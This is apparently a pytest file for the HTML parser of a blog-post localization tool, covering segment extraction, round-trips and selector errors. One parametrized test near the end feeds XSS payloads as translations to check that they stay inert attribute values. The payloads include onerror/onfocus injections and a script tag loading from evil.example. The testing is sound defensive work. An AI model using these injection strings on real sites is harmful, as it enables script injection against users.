"""HTML sources: blocks as a browser sees them, holes cut into the source's own bytes."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path, PurePosixPath

import html5lib
import polib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from localize_post.document import unescape_text
from localize_post.errors import SourceError
from localize_post.render import PostTranslator
from localize_post.sources.html import parse_html
from test_markdown import Case, read_cases, segment_line

from conftest import CASES, Run, dom_tree, tree_digest

PAGE = (CASES / "html" / "page.html").read_text(encoding="utf-8")


def _article_inner(page: str) -> str:
    start = page.index(">", page.index("<article")) + 1
    return page[start : page.index("</article>")]


HTML_CASES = read_cases(CASES / "html-segments.txt")
FRAGMENT_CASES = [
    case
    for case in HTML_CASES
    if not any(tag in case.source.lower() for tag in ("<html", "<body", "<article"))
]


@pytest.mark.parametrize("case", HTML_CASES, ids=[case.name for case in HTML_CASES])
def test_html_segments(case: Case) -> None:
    document = parse_html(case.source, PurePosixPath("post.html"), "post", None)
    assert [segment_line(segment) for segment in document.segments] == case.expected


@pytest.mark.parametrize("case", FRAGMENT_CASES, ids=[case.name for case in FRAGMENT_CASES])
def test_fragment_fills_back_to_its_source(case: Case) -> None:
    document = parse_html(case.source, PurePosixPath("post.html"), "post", None)
    assert dom_tree(PostTranslator(document, None).body()) == dom_tree(case.source)


def test_page_fields_and_meta() -> None:
    document = parse_html(PAGE, PurePosixPath("source/page.html"), "page", None)
    fields = {name: document.segments[index].text for name, index in document.fields.items()}
    assert fields == {
        "title": "A & B news",
        "description": "All about A & B.",
        "og:title": "A and B",
        "og:image:alt": "A chart of A & B",
        "twitter:description": "A and B, in short.",
        "keywords": "A, B, news",
    }
    assert document.meta["author"] == "Karen"
    assert document.meta["date"] == datetime(2020, 11, 5, 10, tzinfo=UTC)
    texts = [segment.text for segment in document.segments]
    assert "Menu" not in texts  # outside the article
    assert "not me" not in " ".join(texts)  # script
    assert "Off para" not in texts and "No translate" not in texts and "code block" not in texts


def test_page_identity_round_trip() -> None:
    document = parse_html(PAGE, PurePosixPath("source/page.html"), "page", None)
    assert dom_tree(PostTranslator(document, None).body()) == dom_tree(_article_inner(PAGE))


# Why a fragment's English page, the same DOM, is not its bytes: a msgid holds text as a reader
# sees it, and a translatable attribute is written back between double quotes, whatever the
# translation holds.
NOT_THE_SAME_BYTES = {
    "nested div with loose text over several lines": "white space collapsed",
    "line break followed by a newline": "white space collapsed",
    "whitespace collapsing": "white space collapsed",
    "entities are decoded, no-break spaces kept": "entities written as characters",
    "entity without a semicolon": "entities written as characters",
    "french punctuation with no-break spaces": "entities written as characters",
    "entities in aria-label, placeholder and value": "entities written as characters",
    "alt attributes quoted with double, single and no quotes, image title": "quotes",
    "title attribute on the block and on a link": "quotes",
    "unquoted href, alt and title": "quotes",
    "placeholder of an input and of a text area, whose content is data": "quotes",
    "value of button, submit and reset inputs, type in any case and quoting": "quotes",
}


def test_fragments_fill_back_to_their_bytes() -> None:
    """Every fragment case gives back its very bytes, but the known exceptions."""
    differing = set()
    for case in FRAGMENT_CASES:
        document = parse_html(case.source, PurePosixPath("post.html"), "post", None)
        if PostTranslator(document, None).body() != case.source:
            differing.add(case.name)
    assert differing == set(NOT_THE_SAME_BYTES)


def test_a_page_without_article_or_selector_is_refused() -> None:
    page = "<!DOCTYPE html>\n<html><head><title>T</title></head>\n<body><nav>Menu</nav><p>Post</p>"
    with pytest.raises(SourceError) as raised:
        parse_html(page, PurePosixPath("source/news.html"), "news", None)
    assert str(raised.value) == (
        "source/news.html:3: a page without <article>: wrap the post in <article>, or set"
        " `selector` in localize-post.toml (or [tool.localize-post] in pyproject.toml) to the"
        " element that holds it, a tag (main), a .class, an #id, tag.class or tag#id"
    )


@pytest.mark.parametrize("page", ["<!doctype html><p>Post</p>", "<body><p>Post</p></body>"])
def test_a_doctype_or_a_body_makes_a_page(page: str) -> None:
    with pytest.raises(SourceError, match=r"^p\.html:1: a page without <article>"):
        parse_html(page, PurePosixPath("p.html"), "p", None)


def test_a_fragment_is_the_post_whole() -> None:
    document = parse_html("<nav>Menu</nav><p>Post</p>", PurePosixPath("p.html"), "p", None)
    assert [segment.text for segment in document.segments] == ["Menu", "Post"]


def test_a_selector_that_matches_nothing_is_refused() -> None:
    page = "<html>\n<body>\n<div class='post'><p>Body</p></div></body></html>"
    with pytest.raises(SourceError) as raised:
        parse_html(page, PurePosixPath("source/p.html"), "p", "main.post")
    message = str(raised.value)
    assert message.startswith(
        "source/p.html:2: no element matches the selector 'main.post' (the `selector` setting)"
    )
    assert "\n" not in message


@pytest.mark.parametrize("selector", ["div > p", "a[href]", ".", "div.a.b"])
def test_a_selector_localize_post_cannot_read_is_refused(selector: str) -> None:
    with pytest.raises(SourceError, match=r"^p\.html:1: the selector .* use a tag \(main\)"):
        parse_html("<p>x</p>", PurePosixPath("p.html"), "p", selector)


@pytest.mark.parametrize(
    ("settings", "says"),
    [
        ("", "source/news.html:3: a page without <article>: wrap the post in <article>, or set"),
        ('selector = "main.post"\n', "source/news.html:3: no element matches the selector"),
    ],
)
def test_extract_refuses_a_page_it_cannot_find_the_post_in(
    tmp_path: Path, run: Run, settings: str, says: str
) -> None:
    root = tmp_path / "blog"
    (root / "source").mkdir(parents=True)
    (root / "source" / "news.html").write_text(
        "<!DOCTYPE html>\n<html><head><title>News</title><script>track()</script></head>\n"
        "<body><nav>Home</nav><main><p>The post.</p></main><footer>(c)</footer></body></html>\n"
    )
    (root / "localize-post.toml").write_text(settings)
    before = tree_digest(root)
    result = run("-C", root, "extract")
    assert result.exit_code == 2
    assert result.stderr.startswith(f"localize-post: {says}")
    assert result.stderr.count("\n") == 1
    assert tree_digest(root) == before


def test_a_heading_after_its_permalink_falls_back_marked_as_english() -> None:
    """A permalink before the text: the hole is not right after the heading's start tag, so the
    English is marked on a span of its own; the permalink itself stays as it was."""
    fragment = '<h2 id="s"><a class="anchor" href="#s">#</a>Setup</h2>'
    document = parse_html(fragment, PurePosixPath("p.html"), "p", None)
    assert PostTranslator(document, None).body() == fragment
    body = PostTranslator(document, polib.POFile()).body()
    assert body == '<h2 id="s"><a class="anchor" href="#s">#</a><span lang="en">Setup</span></h2>'


def test_selector_chooses_the_post() -> None:
    page = '<div class="menu"><p>Menu</p></div><div class="post"><p>Body</p></div>'
    document = parse_html(page, PurePosixPath("p.html"), "p", "div.post")
    assert [segment.text for segment in document.segments] == ["Body"]


def test_optional_end_tags_parse_as_browsers_do() -> None:
    document = parse_html(
        "<ul><li>A<li>B <em>b</em></ul><p>One<p>Two", PurePosixPath("p.html"), "p", None
    )
    assert [segment.text for segment in document.segments] == ["A", "B <em>b</em>", "One", "Two"]


def test_translation_is_rendered_into_the_source_markup() -> None:
    document = parse_html(PAGE, PurePosixPath("source/page.html"), "page", None)
    catalog = polib.POFile()
    for segment in document.segments:
        translation = segment.text.replace("link", "lien").replace("An image", "Une image")
        catalog.append(
            polib.POEntry(msgctxt=segment.context, msgid=segment.text, msgstr=translation)
        )
    body = PostTranslator(document, catalog).body()
    assert '<a href="https://x.example/?a=1&amp;b=2" title="Link title">lien</a>' in body
    assert 'alt="Une image"' in body
    assert '<span translate="no">Medsquare</span>' in body


FORM = (
    '<form aria-label="Contact"><input placeholder="Your name">'
    '<input type="submit" value="Send"></form>'
)


def _translated(fragment: str, translation: str) -> tuple[str, PostTranslator]:
    """The fragment rendered with every segment translated as ``translation``."""
    document = parse_html(fragment, PurePosixPath("p.html"), "p", None)
    catalog = polib.POFile()
    for segment in document.segments:
        catalog.append(polib.POEntry(msgid=segment.text, msgstr=translation))
    translator = PostTranslator(document, catalog)
    return translator.body(), translator


def _elements(fragment: str) -> list[tuple[str, dict[str, str]]]:
    """Every element a browser builds from the fragment, with its attributes."""
    root = html5lib.parseFragment(fragment, namespaceHTMLElements=False)
    return [
        (str(element.tag), dict(element.attrib)) for element in root.iter() if element is not root
    ]


@pytest.mark.parametrize(
    "hostile",
    [
        '"><img src=x onerror=alert(1)>',
        "' onfocus='alert(1)' x='",
        "&quot; autofocus onfocus=&quot;alert(1)&lt;/form&gt;",
        '"/><script src="//evil.example/x.js"></script x="',
    ],
)
def test_hostile_attribute_translation_stays_an_attribute_value(hostile: str) -> None:
    body, translator = _translated(FORM, hostile)
    assert translator.fallbacks == {}
    value = unescape_text(hostile)
    assert _elements(body) == [
        ("form", {"aria-label": value}),
        ("input", {"placeholder": value}),
        ("input", {"type": "submit", "value": value}),
    ]


def test_translation_with_a_tag_falls_back_to_the_source_attribute() -> None:
    body, translator = _translated(FORM, '"><script>alert(1)</script>')
    assert set(translator.fallbacks) == {0, 1, 2}
    assert _elements(body) == _elements(FORM)
    assert "script" not in body


WORDS = st.sampled_from(["alpha", "beta", "gamma", "x &amp; y", "1 &lt; 2", "d&eacute;j&agrave;"])
PHRASE = st.lists(WORDS, min_size=1, max_size=3).map(" ".join)
INLINE = st.recursive(
    PHRASE,
    lambda inner: st.one_of(
        st.tuples(
            st.sampled_from(["em", "strong", 'span class="k"', 'a href="/u?a=1&amp;b"']), inner
        ).map(lambda pair: f"<{pair[0]}>{pair[1]}</{pair[0].split()[0]}>"),
        st.lists(inner, min_size=2, max_size=3).map(" ".join),
    ),
    max_leaves=5,
)
BLOCK = st.one_of(
    INLINE.map(lambda text: f"<p>{text}</p>"),
    INLINE.map(lambda text: f"<h2>{text}</h2>"),
    st.lists(INLINE, min_size=1, max_size=3).map(
        lambda items: "<ul>" + "".join(f"<li>{i}" for i in items) + "</ul>"
    ),
    INLINE.map(lambda text: f"<div>{text}<p>{text}</p></div>"),
    INLINE.map(lambda text: f'<p>{text} <img src="i.png" alt="{text.split("<")[0]}"></p>'),
    st.tuples(INLINE, PHRASE).map(
        lambda pair: f'<p>{pair[0]} <a href="/u" aria-label="{pair[1]}">more</a></p>'
    ),
    st.tuples(PHRASE, PHRASE, PHRASE).map(
        lambda texts: (
            f'<form aria-label="{texts[0]}"><input placeholder="{texts[1]}">'
            f'<input type="submit" value="{texts[2]}"><input type="text" value="{texts[2]}"></form>'
        )
    ),
)


@settings(max_examples=150)
@given(st.lists(BLOCK, min_size=1, max_size=5).map("\n".join))
def test_identity_round_trip_property(fragment: str) -> None:
    document = parse_html(fragment, PurePosixPath("p.html"), "p", None)
    assert dom_tree(PostTranslator(document, None).body()) == dom_tree(fragment)
